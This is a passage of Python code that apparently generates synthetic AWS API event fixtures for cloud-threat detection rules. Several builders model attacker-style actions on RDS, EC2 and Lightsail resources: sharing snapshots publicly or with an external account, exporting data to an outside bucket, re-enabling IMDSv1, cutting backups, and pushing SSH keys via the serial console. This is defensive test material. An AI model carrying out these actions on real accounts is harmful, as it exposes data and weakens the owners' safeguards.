def ls_call(ctx, event: str, req: dict, name: str | list[str], res_type: str, kind: str, op: str | None = None):
    """A Lightsail call acting on `name` (or on a list of names, named by the first): `res_type`
    in its response, `kind` in its ARN."""
    names = name if isinstance(name, list) else [name]
    return "lightsail", event, req, ls_ops(ctx, op or event, names, res_type), ls_arn(ctx, kind, names[0])


def b_ls_create_instances(ctx, row, look):
    """Two instances from a blueprint (the negative: denied)."""
    names = [f"build-runner-{i}" for i in range(2)]
    req = {"instanceNames": names, "availabilityZone": f"{ctx.region}a", "blueprintId": "ubuntu_24_04",
           "bundleId": "xlarge_3_0", "userData": "HIDDEN_DUE_TO_SECURITY_REASONS", "keyPairName": "ops-key"}
    return ls_call(ctx, "CreateInstances", req, names, "Instance", "instance", op="CreateInstance")


def b_ls_instances_from_snapshot(ctx, row, look):
    """A clone of the site from its instance snapshot (the negative: denied)."""
    names = ["wordpress-clone-1"]
    req = {"instanceNames": names, "availabilityZone": f"{ctx.region}a",
           "instanceSnapshotName": f"{LS_INSTANCE}-snap", "bundleId": "medium_3_0", "keyPairName": "ops-key"}
    return ls_call(ctx, "CreateInstancesFromSnapshot", req, names, "Instance", "instance")


def b_ls_instance_snapshot(ctx, row, look):
    snap = f"{LS_INSTANCE}-snap"
    req = {"instanceName": LS_INSTANCE, "instanceSnapshotName": snap}
    return ls_call(ctx, "CreateInstanceSnapshot", req, snap, "InstanceSnapshot", "instancesnapshot")


def b_ls_disk_snapshot(ctx, row, look):
    snap = "media-disk-snap"
    req = {"diskName": "media-disk", "diskSnapshotName": snap}
    return ls_call(ctx, "CreateDiskSnapshot", req, snap, "DiskSnapshot", "disksnapshot")


def b_ls_copy_snapshot(ctx, row, look):
    """A copy from another region (the cross-region row) or from the same one; negatives denied."""
    cross = row.endswith("cross_region")
    source = "us-west-2" if cross and ctx.region != "us-west-2" else ("us-east-1" if cross else ctx.region)
    target = f"{LS_INSTANCE}-snap-copy"
    req = {"sourceSnapshotName": f"{LS_INSTANCE}-snap", "targetSnapshotName": target, "sourceRegion": source}
    return ls_call(ctx, "CopySnapshot", req, target, "InstanceSnapshot", "snapshot")


def b_ls_export_snapshot(ctx, row, look):
    snap = f"{LS_INSTANCE}-snap"
    req = {"sourceSnapshotName": snap}
    return ls_call(ctx, "ExportSnapshot", req, snap, "ExportSnapshotRecord", "snapshot")


def b_ls_disk_from_snapshot(ctx, row, look):
    disk = "media-disk-restored"
    req = {"diskName": disk, "diskSnapshotName": "media-disk-snap", "availabilityZone": f"{ctx.region}a",
           "sizeInGb": 64}
    return ls_call(ctx, "CreateDiskFromSnapshot", req, disk, "Disk", "disk")


def b_ls_attach_disk(ctx, row, look):
    disk = "media-disk-restored"
    req = {"diskName": disk, "instanceName": LS_INSTANCE, "diskPath": "/dev/xvdf", "autoMounting": True}
    return ls_call(ctx, "AttachDisk", req, disk, "Disk", "disk")


def b_ls_delete_instance(ctx, row, look):
    req = {"instanceName": LS_INSTANCE, "forceDeleteAddOns": True}
    return ls_call(ctx, "DeleteInstance", req, LS_INSTANCE, "Instance", "instance")


def b_ls_delete_instance_snapshot(ctx, row, look):
    snap = f"{LS_INSTANCE}-snap"
    req = {"instanceSnapshotName": snap}
    return ls_call(ctx, "DeleteInstanceSnapshot", req, snap, "InstanceSnapshot", "instancesnapshot")


def b_ls_delete_disk_snapshot(ctx, row, look):
    snap = "media-disk-snap"
    req = {"diskSnapshotName": snap}
    return ls_call(ctx, "DeleteDiskSnapshot", req, snap, "DiskSnapshot", "disksnapshot")


def b_ls_delete_auto_snapshot(ctx, row, look):
    date = (ctx.t - dt.timedelta(days=2)).strftime("%Y-%m-%d")
    req = {"resourceName": LS_INSTANCE, "date": date}
    return "lightsail", "DeleteAutoSnapshot", req, ls_ops(ctx, "DeleteAutoSnapshot", [LS_INSTANCE], "Instance"), \
        ls_arn(ctx, "autosnapshot", f"{LS_INSTANCE}/{date}")


def b_ls_disable_add_on(ctx, row, look):
    """Automatic snapshots turned off (`look`: the stop-on-idle add-on instead)."""
    req = {"addOnType": "StopInstanceOnIdle" if look else "AutoSnapshot", "resourceName": LS_INSTANCE}
    return ls_call(ctx, "DisableAddOn", req, LS_INSTANCE, "Instance", "resource")


def b_ls_imds(ctx, row, look):
    """IMDSv1 allowed again (`look`: IMDSv2 required)."""
    req = {"instanceName": LS_INSTANCE, "httpTokens": "required" if look else "optional", "httpEndpoint": "enabled"}
    return ls_call(ctx, "UpdateInstanceMetadataOptions", req, LS_INSTANCE, "Instance", "instance")


def b_ls_delete_disk(ctx, row, look):
    req = {"diskName": "media-disk", "forceDeleteAddOns": False}
    return ls_call(ctx, "DeleteDisk", req, "media-disk", "Disk", "disk")


def b_db_snapshot_attr(ctx, row, look, mode):
    ident = "orders-prod-manual-20261001"
    if mode == "public":
        req = {"dBSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": ["all"]}
        values = ["all"]
    elif look:
        req = {"dBSnapshotIdentifier": ident, "attributeName": "restore", "valuesToRemove": [EXT]}
        values = []
    else:
        req = {"dBSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": [EXT]}
        values = [EXT]
    resp = {"dBSnapshotIdentifier": ident, "dBSnapshotAttributes": [{"attributeName": "restore", "attributeValues": values}]}
    return ("rds", "ModifyDBSnapshotAttribute", req, resp,
            f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{ident}")


def b_db_cluster_snapshot_attr(ctx, row, look):
    ident = "billing-aurora-manual-20261002"
    values = [OWN if look else EXT]
    req = {"dBClusterSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": values}
    if row == "aws.rds.db_cluster_snapshot_public":
        values = [] if look else ["all"]
        key = "valuesToRemove" if look else "valuesToAdd"
        req = {"dBClusterSnapshotIdentifier": ident, "attributeName": "restore", key: ["all"]}
    resp = {"dBClusterSnapshotIdentifier": ident,
            "dBClusterSnapshotAttributes": [{"attributeName": "restore", "attributeValues": values}]}
    return ("rds", "ModifyDBClusterSnapshotAttribute", req, resp,
            f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{ident}")


def b_start_export(ctx, row, look):
    src = f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:orders-prod-manual-20261001"
    role = f"arn:aws:iam::{OWN}:role/rds-s3-export"
    key = f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'export', ctx.region)}"
    req = {"exportTaskIdentifier": "orders-export-1", "sourceArn": src, "s3BucketName": "analytics-drop-5e1d",
           "iamRoleArn": role, "kmsKeyId": key, "s3Prefix": "rds/"}
    resp = {"exportTaskIdentifier": "orders-export-1", "sourceArn": src, "exportOnly": [],
            "snapshotTime": rds_date(ctx.t - dt.timedelta(days=2)), "s3Bucket": "analytics-drop-5e1d",
            "s3Prefix": "rds/", "iamRoleArn": role, "kmsKeyId": key, "status": "STARTING", "percentProgress": 0,
            "totalExtractedDataInGB": 0, "sourceType": "SNAPSHOT"}
    return "rds", "StartExportTask", req, resp, src


def b_create_db_snapshot(ctx, row, look):
    ident, inst = "orders-prod-adhoc-1007", "orders-prod"
    req = {"dBSnapshotIdentifier": ident, "dBInstanceIdentifier": inst}
    return ("rds", "CreateDBSnapshot", req, db_snapshot(ctx, ident, inst, "creating"),
            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")


def b_create_db_cluster_snapshot(ctx, row, look):
    ident, cl = "billing-aurora-adhoc-1008", "billing-aurora"
    req = {"dBClusterSnapshotIdentifier": ident, "dBClusterIdentifier": cl}
    return ("rds", "CreateDBClusterSnapshot", req, db_cluster_snapshot(ctx, ident, cl, "creating"),
            f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")


def b_copy_db_snapshot(ctx, row, look):
    target = "orders-prod-copy-1009"
    auto = "rds:orders-prod-2026-10-09-03-12"
    if look:  # same region: plain identifier, no sourceRegion
        req = {"sourceDBSnapshotIdentifier": auto, "targetDBSnapshotIdentifier": target, "copyTags": True}
        resp = db_snapshot(ctx, target, "orders-prod", "creating", stype="manual")
    else:
        src_region = other_region(ctx.region)
        src_arn = f"arn:aws:rds:{src_region}:{OWN}:snapshot:{auto}"
        req = {"sourceDBSnapshotIdentifier": src_arn, "targetDBSnapshotIdentifier": target, "copyTags": True}
        resp = db_snapshot(ctx, target, "orders-prod", "pending", stype="manual", sourceRegion=src_region,
                           sourceDBSnapshotIdentifier=src_arn, percentProgress=0)
    return "rds", "CopyDBSnapshot", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{target}"


def b_restore_instance(ctx, row, look):
    inst, snap = "orders-restore-tmp", "orders-prod-manual-20261001"
    # Issue 14: the public restore is its own row; the catch-all row's fixture restores privately.
    public = row == "aws.rds.restore_db_instance_public" and not look
    req = {"dBInstanceIdentifier": inst, "dBSnapshotIdentifier": snap, "dBInstanceClass": "db.t3.large",
           "dBSubnetGroupName": "db-public" if public else "db-private", "publiclyAccessible": public,
           "vpcSecurityGroupIds": [rid("sg", "db-open")], "deletionProtection": False}
    resp = db_instance(ctx, inst, "creating", dBInstanceClass="db.t3.large", publiclyAccessible=public,
                       deletionProtection=False,
                       vpcSecurityGroups=[{"vpcSecurityGroupId": rid("sg", "db-open"), "status": "active"}])
    return "rds", "RestoreDBInstanceFromDBSnapshot", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}"


def b_restore_cluster(ctx, row, look):
    cl, snap = "billing-restore-tmp", "billing-aurora-manual-20261002"
    req = {"dBClusterIdentifier": cl, "snapshotIdentifier": snap, "engine": "aurora-postgresql",
           "engineVersion": "16.4", "dBSubnetGroupName": "db-private", "vpcSecurityGroupIds": [rid("sg", "db")]}
    if row == "aws.rds.restore_db_cluster_public":  # Multi-AZ DB cluster restore with public access
        req.update({"engine": "postgres", "dBClusterInstanceClass": "db.m6gd.large", "publiclyAccessible": not look})
    return ("rds", "RestoreDBClusterFromSnapshot", req, db_cluster(ctx, cl, "creating"),
            f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")


def b_delete_db_snapshot(ctx, row, look):
    ident = "orders-prod-manual-20260915"
    return ("rds", "DeleteDBSnapshot", {"dBSnapshotIdentifier": ident},
            db_snapshot(ctx, ident, "orders-prod", "deleted"), f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{ident}")


def b_delete_db_instance(ctx, row, look):
    inst = "reporting-replica"
    # Issue 14: deletes without a final snapshot or with the backups are rows of their own.
    skip = row == "aws.rds.delete_db_instance_no_final_snapshot" and not look
    drop = row == "aws.rds.delete_db_instance_drop_backups" and not look
    req = {"dBInstanceIdentifier": inst, "skipFinalSnapshot": skip, "deleteAutomatedBackups": drop}
    if not skip:
        req["finalDBSnapshotIdentifier"] = f"{inst}-final-{ctx.t:%Y%m%d}"
    return ("rds", "DeleteDBInstance", req, db_instance(ctx, inst, "deleting", deletionProtection=False),
            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")


def b_delete_db_cluster(ctx, row, look):
    cl = "billing-aurora"
    return ("rds", "DeleteDBCluster", {"dBClusterIdentifier": cl, "skipFinalSnapshot": True},
            db_cluster(ctx, cl, "deleting"), f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")


def b_modify_db(ctx, row, look, field):
    inst = "orders-prod"
    if field == "deletionProtection":
        value = bool(look)
        resp = db_instance(ctx, inst, "available", deletionProtection=value)
    elif field == "backupRetentionPeriod":
        value = 7 if look else 0
        resp = db_instance(ctx, inst, "modifying", backupRetentionPeriod=value)
    else:
        value = not look
        resp = db_instance(ctx, inst, "modifying", publiclyAccessible=value)
    req = {"dBInstanceIdentifier": inst, field: value, "applyImmediately": True, "allowMajorVersionUpgrade": False}
    return "rds", "ModifyDBInstance", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}"


def b_lifecycle_policy(ctx, row, look, update):
    """A DLM snapshot policy whose daily schedule shares each snapshot (`look`: with the own
    account, which shares nothing)."""
    policy = "policy-" + hx("dlm", row, n=17)
    schedule = {"name": "daily", "copyTags": True,
                "createRule": {"interval": 24, "intervalUnit": "HOURS", "times": ["03:00"]},
                "retainRule": {"count": 7},
                "shareRules": [{"targetAccounts": [OWN if look else EXT]}]}
    details = {"policyType": "EBS_SNAPSHOT_MANAGEMENT", "resourceTypes": ["VOLUME"],
               "targetTags": [{"key": "app", "value": "ledger"}], "schedules": [schedule]}
    req = {"executionRoleArn": f"arn:aws:iam::{OWN}:role/service-role/AWSDataLifecycleManagerDefaultRole",
           "description": "ledger volumes daily", "state": "ENABLED", "policyDetails": details}
    arn = f"arn:aws:dlm:{ctx.region}:{OWN}:policy/{policy}"
    if update:
        # As AWS's own CloudTrail example for DLM logs a request: the API's PascalCase.
        return "dlm", "UpdateLifecyclePolicy", pascal({"policyId": policy, **req}), {}, arn
    return "dlm", "CreateLifecyclePolicy", req, {"policyId": policy}, arn


def pascal(v):
    """Every object key of `v` with its first letter upper-cased."""
    if isinstance(v, dict):
        return {k[:1].upper() + k[1:]: pascal(x) for k, x in v.items()}
    return [pascal(x) for x in v] if isinstance(v, list) else v


def b_eks_nodegroup(ctx, row, look):
    """An EKS managed node group created (the GPU row's `look`: a general-purpose type)."""
    gpu = row.endswith("_gpu") and not look
    name, itype = ("ml-training", "g5.12xlarge") if gpu else ("apps-m6i", "m6i.xlarge")
    ami = "AL2023_x86_64_NVIDIA" if gpu else "AL2023_x86_64_STANDARD"
    cluster = "eks-prod"
    role = f"arn:aws:iam::{OWN}:role/eks-node-role"
    subnets = [rid("subnet", "eks-a"), rid("subnet", "eks-b")]
    scaling = {"minSize": 2, "maxSize": 6, "desiredSize": 2}
    req = {"clusterName": cluster, "nodegroupName": name, "scalingConfig": scaling, "diskSize": 100,
           "subnets": subnets, "instanceTypes": [itype], "amiType": ami, "nodeRole": role,
           "capacityType": "ON_DEMAND", "clientRequestToken": uid(ctx.key, "token")}
    arn = f"arn:aws:eks:{ctx.region}:{OWN}:nodegroup/{cluster}/{name}/{uid(ctx.key, 'ng')}"
    resp = {"nodegroup": {"nodegroupName": name, "nodegroupArn": arn, "clusterName": cluster, "version": "1.31",
                          "releaseVersion": "1.31.2-20261104", "createdAt": ts(ctx.t), "modifiedAt": ts(ctx.t),
                          "status": "CREATING", "capacityType": "ON_DEMAND", "scalingConfig": scaling,
                          "instanceTypes": [itype], "subnets": subnets, "amiType": ami, "nodeRole": role,
                          "diskSize": 100, "health": {"issues": []}, "updateConfig": {"maxUnavailable": 1},
                          "tags": {}}}
    return "eks", "CreateNodegroup", req, resp, f"arn:aws:eks:{ctx.region}:{OWN}:cluster/{cluster}"


def b_batch_environment(ctx, row, look):
    """An AWS Batch managed compute environment created (the GPU row's `look`: CPU families), or
    one's vCPUs raised."""
    gpu = row.endswith("_gpu") and not look
    types = ["p3", "g5.12xlarge"] if gpu else ["c6i", "m6i", "r6i"]
    name = "genomics-gpu-spot" if gpu else "genomics-cpu-spot"
    arn = f"arn:aws:batch:{ctx.region}:{OWN}:compute-environment/{name}"
    if row.startswith("aws.batch.update_compute_environment"):
        # The plain row's update raises the vCPUs only; the GPU row's sets the types too.
        resources = {"maxvCpus": 2048, "desiredvCpus": 256}
        if row.endswith("_gpu"):
            resources["instanceTypes"] = types
        req = {"computeEnvironment": name, "computeResources": resources}
        return "batch", "UpdateComputeEnvironment", req, {"computeEnvironmentName": name, "computeEnvironmentArn": arn}, arn
    resources = {"type": "SPOT", "allocationStrategy": "SPOT_PRICE_CAPACITY_OPTIMIZED", "minvCpus": 0,
                 "maxvCpus": 1024, "instanceTypes": types,
                 "subnets": [rid("subnet", "batch-a"), rid("subnet", "batch-b")],
                 "securityGroupIds": [rid("sg", "batch")],
                 "instanceRole": f"arn:aws:iam::{OWN}:instance-profile/ecsInstanceRole",
                 "launchTemplate": {"launchTemplateName": f"{name}-lt", "version": "$Latest"}}
    req = {"computeEnvironmentName": name, "type": "MANAGED", "state": "ENABLED",
           "computeResources": resources,
           "serviceRole": f"arn:aws:iam::{OWN}:role/aws-service-role/batch.amazonaws.com/AWSServiceRoleForBatch"}
    return "batch", "CreateComputeEnvironment", req, {"computeEnvironmentName": name, "computeEnvironmentArn": arn}, arn


RUNNING, PENDING, STOPPING, STOPPED, SHUTTING = (16, "running"), (0, "pending"), (64, "stopping"), (80, "stopped"), (32, "shutting-down")

AWS_BUILDERS = {
    "aws.ec2.snapshot_public": lambda c, r, l: b_snapshot_attribute(c, r, l, "public"),
    "aws.ec2.snapshot_shared": lambda c, r, l: b_snapshot_attribute(c, r, l, "external"),
    "aws.ec2.snapshot_share_removed": lambda c, r, l: b_snapshot_attribute(c, r, l, "removed"),
    "aws.dlm.policy_share_external": lambda c, r, l: b_lifecycle_policy(c, r, l, False),
    "aws.dlm.policy_share_external_updated": lambda c, r, l: b_lifecycle_policy(c, r, l, True),
    "aws.ec2.image_public": lambda c, r, l: b_image_attribute(c, r, l, "public"),
    "aws.ec2.image_shared": lambda c, r, l: b_image_attribute(c, r, l, "external"),
    "aws.ec2.create_snapshot": b_create_snapshot,
    "aws.ec2.create_snapshots": b_create_snapshots,
    "aws.ec2.copy_snapshot_cross_region": lambda c, r, l: b_copy_snapshot(c, r, l, True),
    "aws.ec2.copy_snapshot": lambda c, r, l: b_copy_snapshot(c, r, l, False),
    "aws.ec2.create_image": b_create_image,
    "aws.ec2.copy_image": b_copy_image,
    "aws.ec2.register_image": b_register_image,
    "aws.ec2.import_image": b_import_image,
    "aws.ec2.import_snapshot": b_import_snapshot,
    "aws.ec2.instance_export_task": b_instance_export_task,
    "aws.ec2.export_image": b_export_image,
    "aws.ec2.store_image_task": b_store_image_task,
    "aws.ec2.delete_snapshot": b_delete_snapshot,
    "aws.ec2.deregister_image": b_deregister_image,
    "aws.ec2.disable_snapshot_block_public_access": b_disable_snapshot_bpa,
    "aws.ec2.disable_image_block_public_access": b_disable_image_bpa,
    "aws.ec2.disable_image_deregistration_protection": b_disable_image_dereg_protection,
    "aws.ec2.create_volume_from_snapshot": b_create_volume,
    "aws.ec2.attach_volume": b_attach_volume,
    "aws.ec2.detach_volume": b_detach_volume,
    "aws.ec2.delete_volume": b_delete_volume,
    "aws.ec2.disable_ebs_encryption_by_default": b_disable_ebs_encryption,
    "aws.ec2.modify_ebs_default_kms_key": b_modify_ebs_kms,
    "aws.ec2.run_instances_imdsv1": b_run_instances_imdsv1,
    "aws.ec2.run_instances": b_run_instances,
    "aws.ec2.request_spot_instances": b_request_spot,
    "aws.ec2.create_fleet": b_create_fleet,
    "aws.ec2.request_spot_fleet": b_request_spot_fleet,
    "aws.ec2.terminate_instances": lambda c, r, l: b_instances_state(c, r, l, "TerminateInstances", 3, SHUTTING, RUNNING),
    "aws.ec2.stop_instances": lambda c, r, l: b_instances_state(c, r, l, "StopInstances", 1, STOPPING, RUNNING,
                                                                {"force": False}),
    "aws.ec2.start_instances": lambda c, r, l: b_instances_state(c, r, l, "StartInstances", 1, PENDING, STOPPED),
    "aws.ec2.modify_instance_user_data": b_user_data,
    "aws.ec2.modify_instance_attribute": b_group_set,
    "aws.ec2.imds_v1_enabled": b_imds,
    "aws.ec2.associate_instance_profile": b_associate_profile,
    "aws.ec2.replace_instance_profile": b_replace_profile,
    "aws.ec2.enable_serial_console": b_serial_console,
    "aws.ec2.replace_root_volume": b_replace_root,
    "aws.ec2.replace_root_volume_delete_replaced": b_replace_root,
    "aws.ec2.create_launch_template": b_launch_template,
    "aws.ec2.create_launch_template_version": b_launch_template_version,
    "aws.ec2.create_launch_template_gpu": b_launch_template_gpu,
    "aws.ec2.create_launch_template_version_gpu": b_launch_template_version_gpu,
    "aws.ec2.create_launch_template_imdsv1": b_launch_template_imdsv1,
    "aws.ec2.create_launch_template_version_imdsv1": b_launch_template_version_imdsv1,
    "aws.rbin.delete_rule": b_rbin_delete,
    "aws.rbin.update_rule": b_rbin_update,
    "aws.ec2.restore_snapshot_from_recycle_bin": b_restore_snapshot_rbin,
    "aws.ec2.restore_image_from_recycle_bin": b_restore_image_rbin,
    "aws.ec2.enable_image": b_enable_image,
    "aws.ec2.unlock_snapshot": b_unlock_snapshot,
    "aws.ec2.restore_snapshot_tier": b_restore_snapshot_tier,
    "aws.ec2.imds_defaults_v1": b_imds_defaults,
    "aws.ec2.modify_instance_metadata_defaults": b_imds_defaults,
    "aws.ec2.disable_allowed_images": b_disable_allowed_images,
    "aws.ec2.modify_launch_template": b_modify_launch_template,
    "aws.autoscaling.instance_refresh": b_instance_refresh,
    "aws.autoscaling.terminate_instance": b_asg_terminate,
    "aws.autoscaling.delete_group": b_asg_delete,
    "aws.autoscaling.create_group": b_asg_create,
    "aws.autoscaling.scale_to_zero": b_asg_zero,
    "aws.autoscaling.desired_capacity_zero": b_desired_zero,
    "aws.autoscaling.scheduled_scale_to_zero": b_asg_scheduled_zero,
    "aws.workspaces.image_shared": b_ws_image_permission,
    "aws.workspaces.create_image": b_ws_create_image,
    "aws.workspaces.restore": b_ws_restore,
    "aws.workspaces.rebuild": b_ws_rebuild,
    "aws.workspaces.terminate": b_ws_terminate,
    "aws.lightsail.create_instances": b_ls_create_instances,
    "aws.lightsail.instances_from_snapshot": b_ls_instances_from_snapshot,
    "aws.lightsail.instance_snapshot": b_ls_instance_snapshot,
    "aws.lightsail.disk_snapshot": b_ls_disk_snapshot,
    "aws.lightsail.copy_snapshot_cross_region": b_ls_copy_snapshot,
    "aws.lightsail.copy_snapshot": b_ls_copy_snapshot,
    "aws.lightsail.export_snapshot": b_ls_export_snapshot,
    "aws.lightsail.disk_from_snapshot": b_ls_disk_from_snapshot,
    "aws.lightsail.attach_disk": b_ls_attach_disk,
    "aws.lightsail.delete_instance": b_ls_delete_instance,
    "aws.lightsail.delete_instance_snapshot": b_ls_delete_instance_snapshot,
    "aws.lightsail.delete_disk_snapshot": b_ls_delete_disk_snapshot,
    "aws.lightsail.delete_auto_snapshot": b_ls_delete_auto_snapshot,
    "aws.lightsail.delete_disk": b_ls_delete_disk,
    "aws.lightsail.auto_snapshots_disabled": b_ls_disable_add_on,
    "aws.lightsail.imds_v1_enabled": b_ls_imds,
    "aws.eks.create_nodegroup_gpu": b_eks_nodegroup,
    "aws.eks.create_nodegroup": b_eks_nodegroup,
    "aws.batch.create_compute_environment_gpu": b_batch_environment,
    "aws.batch.create_compute_environment": b_batch_environment,
    "aws.batch.update_compute_environment_gpu": b_batch_environment,
    "aws.batch.update_compute_environment": b_batch_environment,
    "aws.ec2.disable_image": b_disable_image,
    "aws.backup.start_restore_job": b_backup_restore,
    "aws.backup.delete_recovery_point": b_backup_delete_point,
    "aws.backup.recovery_point_retention_cut": b_backup_lifecycle,
    "aws.ec2.delete_fleets_terminate": b_delete_fleets,
    "aws.ec2.cancel_spot_fleet_terminate": b_cancel_spot_fleet,
    "aws.rds.db_snapshot_public": lambda c, r, l: b_db_snapshot_attr(c, r, l, "public"),
    "aws.rds.db_snapshot_shared": lambda c, r, l: b_db_snapshot_attr(c, r, l, "external"),
    "aws.rds.db_cluster_snapshot_shared": b_db_cluster_snapshot_attr,
    "aws.rds.start_export_task": b_start_export,
    "aws.rds.create_db_snapshot": b_create_db_snapshot,
    "aws.rds.create_db_cluster_snapshot": b_create_db_cluster_snapshot,
    "aws.rds.copy_db_snapshot_cross_region": b_copy_db_snapshot,
    "aws.rds.restore_db_instance_from_snapshot": b_restore_instance,
    "aws.rds.restore_db_cluster_from_snapshot": b_restore_cluster,
    "aws.rds.delete_db_snapshot": b_delete_db_snapshot,
    "aws.rds.delete_db_instance": b_delete_db_instance,
    "aws.rds.delete_db_cluster": b_delete_db_cluster,
    "aws.rds.deletion_protection_disabled": lambda c, r, l: b_modify_db(c, r, l, "deletionProtection"),
    "aws.rds.backup_retention_zero": lambda c, r, l: b_modify_db(c, r, l, "backupRetentionPeriod"),
    "aws.rds.instance_made_public": lambda c, r, l: b_modify_db(c, r, l, "publiclyAccessible"),
}

# ------------------------------------------------------------------------------------------------
# Issue 14: rows that close the gaps against the community rules. Their fixtures live in
# September 2026 (see gen_fixtures), so the October files above keep their bytes.
# ------------------------------------------------------------------------------------------------

def b_run_instances_gpu(ctx, row, look):
    return run_instances(ctx, row, 1, "m6i.2xlarge" if look else "g4dn.12xlarge", "required", "ml-train-01")


def b_run_scheduled(ctx, row, look):
    sci = "sci-" + hx("sci", row, n=20)
    spec = {"imageId": rid("ami", row), "instanceType": "c5.xlarge",
            "networkInterfaces": [{"deviceIndex": 0, "subnetId": rid("subnet", "prod-a")}]}
    req = {"scheduledInstanceId": sci, "instanceCount": 1, "launchSpecification": spec,
           "clientToken": uid(ctx.key, "clientToken")}
    resp = ec2_ok(ctx, instanceIdSet={"items": [{"instanceId": rid("i", row, "sched")}]})
    return "ec2", "RunScheduledInstances", req, resp, ec2_arn(ctx, "instance", "*")


def b_imds_hop(ctx, row, look):
    iid = rid("i", row)
    hops = 1 if look else 3
    req = {"instanceId": iid, "httpTokens": "required", "httpPutResponseHopLimit": hops}
    opts = {**imds_options("required"), "httpPutResponseHopLimit": hops}
    return ("ec2", "ModifyInstanceMetadataOptions", req, ec2_ok(ctx, instanceId=iid, instanceMetadataOptions=opts),
            ec2_arn(ctx, "instance", iid))


def b_imds_other(ctx, row, look):
    iid = rid("i", row)
    req = {"instanceId": iid, "instanceMetadataTags": "enabled", "httpEndpoint": "enabled"}
    opts = {**imds_options("required"), "httpPutResponseHopLimit": 1, "instanceMetadataTags": "enabled"}
    return ("ec2", "ModifyInstanceMetadataOptions", req, ec2_ok(ctx, instanceId=iid, instanceMetadataOptions=opts),
            ec2_arn(ctx, "instance", iid))


def b_disassociate_profile(ctx, row, look):
    iid, assoc = rid("i", row), rid("iip-assoc", row)
    req = {"DisassociateIamInstanceProfileRequest": {"AssociationId": assoc}}
    resp = ec2_wrapped(ctx, "DisassociateIamInstanceProfile", iamInstanceProfileAssociation={
        "associationId": assoc, "instanceId": iid, "state": "disassociating",
        "iamInstanceProfile": {"arn": f"arn:aws:iam::{OWN}:instance-profile/app-instance-profile",
                               "id": "AIPA" + b32("ip", "app-instance-profile", n=17)}})
    return "ec2", "DisassociateIamInstanceProfile", req, resp, ec2_arn(ctx, "instance", iid)


def b_reset_attribute(ctx, row, look):
    iid = rid("i", row)
    return ("ec2", "ResetInstanceAttribute", {"instanceId": iid, "attribute": "sourceDestCheck"},
            ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid))


def b_serial_key(ctx, row, look):
    """Shape of the Stratus ec2-serial-console-send-ssh-public-key capture."""
    iid = rid("i", row)
    req = {"instanceId": iid, "monitorMode": False, "serialPort": 0,
           "sSHPublicKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + b64("sshkey", row, n=43)}
    resp = {"requestId": ctx.request_id, "success": True}
    return "ec2-instance-connect", "SendSerialConsoleSSHPublicKey", req, resp, ec2_arn(ctx, "instance", iid)


def b_import_instance(ctx, row, look):
    task = "import-i-" + hx("task", row, n=8)
    req = {"description": "legacy erp vm", "platform": "Windows",
           "launchSpecification": {"architecture": "x86_64", "instanceType": "m5.large",
                                   "subnetId": rid("subnet", "prod-a")},
           "diskImageSet": {"items": [{"image": {"format": "VMDK", "bytes": 42949672960,
                                                 "importManifestUrl": "https://vm-import-drop-7c1e.s3.amazonaws.com/erp.vmdk.manifest.xml"}}]}}
    resp = ec2_ok(ctx, conversionTask={"conversionTaskId": task, "state": "active",
                                       "importInstance": {"platform": "Windows", "volumes": {}}})
    return "ec2", "ImportInstance", req, resp, ec2_arn(ctx, "instance", "*")


def b_restore_image_task(ctx, row, look):
    req = {"CreateRestoreImageTaskRequest": {"Bucket": "ami-archive-4f2a", "ObjectKey": "ami-0c2f9d1e7b3a64e58.bin",
                                             "Name": "restored-golden"}}
    resp = ec2_wrapped(ctx, "CreateRestoreImageTask", imageId=rid("ami", row))
    return "ec2", "CreateRestoreImageTask", req, resp, ec2_arn(ctx, "image", "*")


def b_bundle_instance(ctx, row, look):
    iid = rid("i", row)
    storage = {"S3": {"bucket": "win-bundles-9d3e", "prefix": "erp01", "aWSAccessKeyId": "AKIA" + b32("bundle", n=16)}}
    resp = ec2_ok(ctx, bundleInstanceTask={"instanceId": iid, "bundleId": "bun-" + hx("bun", row, n=8),
                                           "state": "pending", "progress": "0%", "storage": {"S3": {"bucket": "win-bundles-9d3e", "prefix": "erp01"}}})
    return "ec2", "BundleInstance", {"instanceId": iid, "storage": storage}, resp, ec2_arn(ctx, "instance", iid)


def b_copy_db_cluster_snapshot(ctx, row, look):
    target, cl = "billing-aurora-copy-0905", "billing-aurora"
    src_id = "rds:billing-aurora-2026-09-05-03-12"
    src = src_id if look else f"arn:aws:rds:{other_region(ctx.region)}:{OWN}:cluster-snapshot:{src_id}"
    req = {"sourceDBClusterSnapshotIdentifier": src, "targetDBClusterSnapshotIdentifier": target, "copyTags": True}
    return ("rds", "CopyDBClusterSnapshot", req, db_cluster_snapshot(ctx, target, cl, "copying"),
            f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{target}")


def b_restore_from_s3(ctx, row, look):
    inst = "erp-import-tmp"
    req = {"dBInstanceIdentifier": inst, "dBInstanceClass": "db.r6g.large", "engine": "mysql", "allocatedStorage": 200,
           "masterUsername": "admin", "sourceEngine": "mysql", "sourceEngineVersion": "8.0.36",
           "s3BucketName": "db-dumps-2b7f", "s3Prefix": "erp/", "s3IngestionRoleArn": f"arn:aws:iam::{OWN}:role/rds-s3-import"}
    return ("rds", "RestoreDBInstanceFromS3", req, db_instance(ctx, inst, "creating", engine="mysql"),
            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")


def b_create_db_instance(ctx, row, look):
    inst = "analytics-scratch"
